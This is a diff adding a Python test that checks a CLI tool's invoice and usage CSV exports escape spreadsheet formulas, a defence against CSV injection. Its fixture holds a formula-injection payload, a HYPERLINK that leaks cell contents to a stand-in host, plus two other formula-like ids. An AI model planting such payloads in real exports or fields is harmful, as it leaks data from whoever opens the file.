@@ -376,3 +376,33 @@ def test_now_on_every_command_that_depends_on_the_time():
             continue
         has_now = any("--now" in getattr(p, "opts", ()) for p in command.params)
         assert has_now == (path in TIME_DEPENDENT), path
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula(env_db):
+    """An org, model or session id is data: written as `=HYPERLINK(...)` it ran as a
+    formula where the CSV was opened (review). Such cells start with `'`; numbers stay."""
+    import csv
+    import io
+    from datetime import timedelta
+
+    org, model, session = '=HYPERLINK("http://x/?"&A1,"y")', "+1+1", "@SUM(1+1)"
+    ended = NOW - timedelta(hours=1)
+    env_db.tasks.insert_one(
+        {
+            "_id": "r1", "name": "ai", "status": "SUCCESS", "end_time": ended,
+            "last_updated_db": ended.timestamp(),
+            "context": {"workspace_id": org, "ai_model": model, "session_id": session,
+                        "ai_tokens": 1_000, "ai_prompt_tokens": 800,
+                        "ai_completion_tokens": 200},
+        }
+    )  # fmt: skip
+    assert invoke("run", "--org", org, *NOW_ARG).exit_code == 0
+    outputs = [
+        invoke("invoice", "show", "--org", org, "--csv", *NOW_ARG).output,
+        invoke("usage", "--org", org, "--by", "run", "--csv", *NOW_ARG).output,
+        invoke("usage", "--org", org, "--by", "session", "--csv", *NOW_ARG).output,
+    ]
+    cells = [cell for out in outputs for row in csv.reader(io.StringIO(out)) for cell in row]
+    assert f"'{org}:2026-11" in cells and f"'{model}" in cells and f"'{session}" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    assert "1000" in cells  # numbers are written as they are
